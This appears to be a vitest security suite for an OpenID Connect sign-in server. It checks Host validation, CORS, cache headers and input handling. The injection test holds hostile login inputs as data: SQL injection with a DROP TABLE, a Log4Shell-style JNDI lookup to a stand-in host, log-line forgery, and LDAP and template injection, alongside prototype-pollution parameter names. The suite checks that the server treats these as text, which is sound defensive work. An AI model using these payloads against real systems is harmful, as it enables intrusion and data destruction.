// The security cases of requests at the browser's side (group H): which are answered, and what they may hold.

import { connect } from 'node:net'
import { text } from 'node:stream/consumers'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import {
  ask,
  authorizeQuery,
  authorizeUrl,
  expectCode,
  expectErrorPage,
  expectPage,
  signedIn,
  signIn,
  signInFully,
} from '../support/authorize.ts'
import { startServer, TEST_PASSWORD, type TestServer } from '../support/server.ts'
import { threadTime } from '../support/thread-time.ts'
import { formWith, Visitor } from '../support/visitor.ts'

let host: TestServer

beforeAll(async () => {
  host = await startServer()
  await host.addClient('web', 'openid-connect', { post_logout_redirect_uris: ['https://client.test/out'] })
  await host.addUser('alice')
  await host.addUser('bob')
  for (const username of ['alice', 'bob']) await signInFully(new Visitor(), host, username)
})
afterAll(() => host.close())

describe('H05 requests we answer', () => {
  test('only those for the issuer: another Host gets 421 and the way to the right address', async () => {
    for (const name of ['evil.test', `localhost:${new URL(host.issuer).port}`, '127.0.0.1', '']) {
      const answer = await raw(
        `GET /sso/authorize?x=1 HTTP/1.1\r\nHost: ${name}\r\nAccept: text/html\r\nConnection: close\r\n\r\n`,
      )
      expect(answer, name).toMatch(/^HTTP\/1\.1 421 /)
      expect(answer).toContain(`href="${host.issuer}/sso/authorize?x=1"`)
      if (name !== '') expect(answer).not.toContain(`//${name}"`)
    }
    const { host: right } = new URL(host.issuer)
    const good = await raw(`GET /sso/authorize?x=1 HTTP/1.1\r\nHost: ${right}\r\nConnection: close\r\n\r\n`)
    expect(good).toMatch(/^HTTP\/1\.1 400 /)
  })

  test('health is answered for any host', async () => {
    for (const path of ['/healthz', '/readyz']) {
      expect(await raw(`GET ${path} HTTP/1.1\r\nHost: 10.0.0.1\r\nConnection: close\r\n\r\n`)).toMatch(
        /^HTTP\/1\.1 200 /,
      )
    }
  })

  test('forwarding headers of a stranger change nothing', async () => {
    const visitor = new Visitor()
    const headers = {
      'x-forwarded-host': 'evil.test',
      'x-forwarded-proto': 'https',
      'x-forwarded-for': '198.51.100.7',
      forwarded: 'for=198.51.100.7;host=evil.test;proto=https',
    }
    const page = await visitor.get(authorizeUrl(host), { headers })
    expect(new URL(page.location ?? '').origin).toBe(host.issuer)
    expect([...visitor.cookies.keys()]).toEqual(['lingpai-visit'])
    const form = await visitor.follow(page)
    const { action, fields } = formWith(form, 'login-submit')
    const wrong = { ...fields, username: 'alice', password: 'not the password' }
    expectPage(await visitor.post(new URL(action, form.url).href, wrong, { headers }))
    const events = await host.server.parts.store.listEvents(500)
    const addresses = events.flatMap(({ type, detail }) => (type === 'sign_in_failed' ? [detail?.['address']] : []))
    expect(addresses.length).toBeGreaterThan(0)
    expect(new Set(addresses)).toEqual(new Set(['127.0.0.1']))
  })

  test('with an https issuer a plain request is refused, loopback included', async () => {
    const secure = await startServer({ issuer: 'https://127.0.0.1' })
    try {
      await secure.addClient('web')
      const page = await new Visitor().get(authorizeUrl(secure))
      expect(page.status).toBe(421)
      expect(page.html).toContain('href="https://127.0.0.1/sso/authorize?')
      expect(page.headers.getSetCookie()).toEqual([])
    } finally {
      await secure.close()
    }
  })

  test('a listed alternative is answered too, forms included, and no other', async () => {
    const alternative = 'http://internal.client.test'
    const settings = {
      issuer: 'http://sso.client.test',
      alternativeOrigins: [alternative],
      trustedProxies: ['127.0.0.1'],
    }
    const proxied = await startServer(settings)
    try {
      await proxied.addClient('web')
      await proxied.addUser('alice')
      const visitor = new Visitor()
      const headers = { 'x-forwarded-host': 'internal.client.test', 'x-forwarded-for': '203.0.113.9' }
      const local = (location: string | null) => new URL(location ?? '').pathname
      const started = await visitor.get(authorizeUrl(proxied), { headers })
      const page = await visitor.get(proxied.origin + local(started.location), { headers })
      const { action, fields } = formWith(page, 'login-submit')
      const filled = { ...fields, username: 'alice', password: TEST_PASSWORD }
      const submit = (origin: string) =>
        visitor.post(proxied.origin + action, filled, { headers: { ...headers, origin } })
      expectErrorPage(await submit('http://other.client.test'), { status: 403 })
      expect(local((await submit(alternative)).location)).toMatch(/^\/sso\/consent\//)
      const misdirected = await visitor.get(authorizeUrl(proxied), {
        headers: { ...headers, 'x-forwarded-host': 'other.test' },
      })
      expect(misdirected.status).toBe(421)
    } finally {
      await proxied.close()
    }
  })

  async function raw(request: string): Promise<string> {
    const socket = connect(Number(new URL(host.origin).port), '127.0.0.1')
    socket.end(request)
    return text(socket)
  }
})

describe('H04 CORS at the endpoints that public clients call', () => {
  const preflight = (path: string, origin: string) =>
    fetch(host.issuer + path, {
      method: 'OPTIONS',
      headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'authorization' },
    })
  const send = (path: string, origin: string) => fetch(host.issuer + path, { method: 'POST', headers: { origin } })

  beforeAll(async () => {
    await host.addClient('browser-app', 'spa', { redirect_uris: ['https://spa.client.test/cb'] }, null)
    await host.addClient('phone-app', 'native', { redirect_uris: ['com.example.app:/cb'] }, null)
    await host.addClient('server-app', 'openid-connect', { redirect_uris: ['https://server.client.test/cb'] })
  })

  test.each(['/sso/token', '/sso/userinfo', '/sso/revoke'])(
    '%s lets the origin of a public client read',
    async (path) => {
      for (const reply of [
        await preflight(path, 'https://spa.client.test'),
        await send(path, 'https://spa.client.test'),
      ]) {
        expect(reply.headers.get('access-control-allow-origin')).toBe('https://spa.client.test')
        expect(reply.headers.get('access-control-allow-credentials')).toBeNull()
        expect(reply.headers.get('vary')).toContain('Origin')
      }
    },
  )

  test.each([
    'http://spa.client.test',
    'https://spa.client.test.evil.test',
    'https://evil-spa.client.test',
    'https://a.spa.client.test',
    'https://client.test',
    'https://spa.client.test:8443',
    'https://SPA.client.test',
    'https://server.client.test',
    'null',
    '',
    '*',
  ])('no endpoint reflects %j', async (origin) => {
    for (const path of ['/sso/token', '/sso/userinfo', '/sso/revoke', '/sso/introspect', '/sso/par']) {
      for (const reply of [await preflight(path, origin), await send(path, origin)]) {
        expect(reply.headers.get('access-control-allow-origin')).toBeNull()
        expect(reply.headers.get('access-control-allow-credentials')).toBeNull()
      }
    }
  })

  test('introspection is for servers: no origin reads it', async () => {
    const reply = await send('/sso/introspect', 'https://spa.client.test')
    expect(reply.headers.get('access-control-allow-origin')).toBeNull()
  })

  test('H01 every machine endpoint that handles secrets is never kept', async () => {
    for (const path of ['/sso/token', '/sso/userinfo', '/sso/revoke', '/sso/introspect', '/sso/par']) {
      const reply = await fetch(host.issuer + path, { method: 'POST' })
      expect([reply.headers.get('cache-control'), reply.headers.get('pragma')], path).toEqual(['no-store', 'no-cache'])
    }
  })
})

describe('H03 H09 H10 H12 H15 what a request may hold', () => {
  test('H03 no page lets another origin read it', async () => {
    for (const path of [
      '/sso/authorize',
      '/sso/sign-in/x',
      '/sso/consent/x',
      '/sso/choose-account/x',
      '/sso/end-session',
      '/sso/account',
      '/sso/account/sign-in',
      '/sso/account/withdraw',
      '/sso/account/sign-out',
    ]) {
      for (const method of ['GET', 'OPTIONS']) {
        const reply = await fetch(host.issuer + path, {
          method,
          redirect: 'manual',
          headers: { origin: 'https://client.test', 'access-control-request-method': 'POST', accept: 'text/html' },
        })
        for (const name of reply.headers.keys()) expect(name).not.toMatch(/^access-control-/)
      }
    }
  })

  test.each([
    'client_id[$ne]',
    'client_id[]',
    'a.b',
    '__proto__[x]',
    'constructor[prototype]',
    '__proto__',
    'toString',
  ])('H09 %s is a name like any other', async (name) => {
    const visitor = await signedIn(host, 'alice')
    expectCode(await visitor.get(authorizeUrl(host, { [name]: '1' })))
    expect(({} as Record<string, unknown>)['x']).toBeUndefined()
    expectErrorPage(await visitor.get(authorizeUrl(host, { client_id: undefined, [name]: 'web' })))
  })

  test('H10 SQL, templates and forged log lines are text', async () => {
    const visitor = new Visitor()
    const page = await ask(visitor, host)
    for (const username of [
      "alice' --",
      "' OR '1'='1",
      '"; DROP TABLE "user"; --',
      '${jndi:ldap://evil.test}',
      'a\r\n{"level":"error"}',
      '\u001b[31m',
      '*)(uid=*',
      '{{7*7}}',
    ]) {
      const reply = await visitor.submit(page, 'login-submit', { username, password: TEST_PASSWORD })
      expectPage(reply)
      expect(reply.html).toContain('do not belong together')
    }
    expectCode(await signIn(visitor, page, 'alice'))
  })

  test.each(['scope', 'redirect_uri', 'login_hint', 'ui_locales', 'prompt', 'id_token_hint', 'state', 'max_age'])(
    'H12 a %s of 60,000 characters is answered with less than 100 ms of work',
    async (name) => {
      for (const unit of ['a ', '%41', '../', 'a.b.', ' ', '中']) {
        const value = unit.repeat(60_000 / unit.length).slice(0, name === 'scope' || unit !== '中' ? 60_000 : 6_000)
        const body = authorizeQuery({ [name]: value })
          .toString()
          .slice(0, 65_000)
        const send = () =>
          fetch(`${host.issuer}/sso/authorize`, {
            method: 'POST',
            body,
            redirect: 'manual',
            headers: { 'content-type': 'application/x-www-form-urlencoded' },
          })
        let fastest = Number.POSITIVE_INFINITY
        for (let round = 0; round < 3 && fastest > 100; round++) {
          const start = threadTime()
          const reply = await send()
          await reply.text()
          fastest = Math.min(fastest, threadTime() - start)
          expect(reply.status).toBeLessThan(500)
        }
        expect(fastest).toBeLessThan(100)
      }
    },
  )

  test('H15 a packed body is refused, whatever it would unpack to', async () => {
    const body = gzipSync(authorizeQuery().toString())
    for (const encoding of ['gzip', 'br', 'deflate', 'zstd', 'made-up']) {
      const headers = { 'content-type': 'application/x-www-form-urlencoded', 'content-encoding': encoding }
      const reply = await fetch(`${host.issuer}/sso/authorize`, { method: 'POST', body, headers, redirect: 'manual' })
      expect(reply.status).toBe(415)
    }
  })
})
